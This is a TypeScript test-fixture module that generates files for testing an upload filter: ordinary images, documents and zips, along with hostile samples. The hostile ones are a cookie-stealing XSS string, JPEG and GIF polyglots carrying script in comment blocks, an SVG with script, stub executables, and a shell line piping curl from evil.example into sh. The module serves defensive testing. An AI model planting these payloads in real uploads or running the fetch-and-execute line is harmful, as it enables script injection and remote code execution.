/**
 * Test files made in code: real formats (sharp encodes the images), plus the hostile ones
 * an upload must refuse or clean. No binary fixtures in the repository.
 */
import { randomUUID } from 'node:crypto';
import { mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';

export const SCRIPT_PAYLOAD = '<script>alert(document.cookie)</script>';

export async function tempDir(): Promise<string> {
  return mkdtemp(path.join(os.tmpdir(), 'leerkring-files-test-'));
}

export async function writeTemp(dir: string, bytes: Buffer | string): Promise<string> {
  const file = path.join(dir, randomUUID());
  await writeFile(file, bytes);
  return file;
}

const picture = (width = 40, height = 20) => sharp({ create: { width, height, channels: 3, background: { r: 200, g: 80, b: 20 } } });

export const jpeg = () => picture().jpeg().toBuffer();
export const png = () => picture().png().toBuffer();
export const webp = () => picture().webp().toBuffer();
export const gif = () => picture().gif().toBuffer();

/** A JPEG with camera make, model and GPS position in its EXIF. */
export const jpegWithExif = () =>
  picture()
    .jpeg()
    .withExif({
      IFD0: { Make: 'LeerkringCamMake', Model: 'LeerkringCamModel' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 5/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '5/1 7/1 0/1' },
    })
    .toBuffer();

/** 40×20 pixels, stored with EXIF orientation 6: shown upright it is 20×40. */
export const jpegRotatedByExif = () => picture(40, 20).jpeg().withMetadata({ orientation: 6 }).toBuffer();

/** A valid JPEG whose comment segment (COM, right after SOI) carries HTML and script. */
export async function jpegPolyglot(): Promise<Buffer> {
  const image = await jpeg();
  const payload = Buffer.from(`*/${SCRIPT_PAYLOAD}<html><body onload=alert(1)>/*`);
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe]), u16be(payload.length + 2), payload]);
  return Buffer.concat([image.subarray(0, 2), segment, image.subarray(2)]);
}

/** A valid GIF89a carrying JavaScript and HTML in a comment extension block. */
export async function gifPolyglot(): Promise<Buffer> {
  const image = await gif();
  const payload = Buffer.from(`*/=1;alert(1);/*${SCRIPT_PAYLOAD}`);
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe, payload.length]), payload, Buffer.from([0x00])]);
  // Before the trailer (0x3B), where a comment extension is allowed.
  return Buffer.concat([image.subarray(0, image.length - 1), comment, image.subarray(image.length - 1)]);
}

export const pdf = () =>
  Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
      '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  );

export const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
export const windowsExe = () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(64)]);
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
export const svgWithScript = () => Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`);
export const html = () => Buffer.from(`<!DOCTYPE html><html><body>${SCRIPT_PAYLOAD}</body></html>`);

/** A docx as Word writes its skeleton: [Content_Types].xml first, then word/document.xml. */
export const docx = () =>
  zip([
    ['[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'],
    ['word/document.xml', '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'],
  ]);

/** An OpenDocument text: the `mimetype` entry first and uncompressed, as the standard asks. */
export const odt = () => zip([['mimetype', 'application/vnd.oasis.opendocument.text'], ['content.xml', '<office:document-content/>']]);

export const plainZip = () => zip([['readme.txt', 'hallo'], ['run.sh', '#!/bin/sh\n']]);

/** A minimal zip of stored (uncompressed) entries. */
function zip(entries: [string, string][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of entries) {
    const nameBytes = Buffer.from(name);
    const data = Buffer.from(text);
    const crc = crc32(data);
    const common = Buffer.concat([u16le(20), u16le(0), u16le(0), u16le(0), u16le(0), u32le(crc), u32le(data.length), u32le(data.length), u16le(nameBytes.length), u16le(0)]);
    const local = Buffer.concat([u32le(0x04034b50), common, nameBytes, data]);
    centrals.push(Buffer.concat([u32le(0x02014b50), u16le(20), common, u16le(0), u16le(0), u16le(0), u32le(0), u32le(offset), nameBytes]));
    locals.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(centrals);
  const end = Buffer.concat([u32le(0x06054b50), u16le(0), u16le(0), u16le(entries.length), u16le(entries.length), u32le(central.length), u32le(offset), u16le(0)]);
  return Buffer.concat([...locals, central, end]);
}

function u16le(n: number) {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n);
  return b;
}
function u32le(n: number) {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
}
function u16be(n: number) {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(n);
  return b;
}
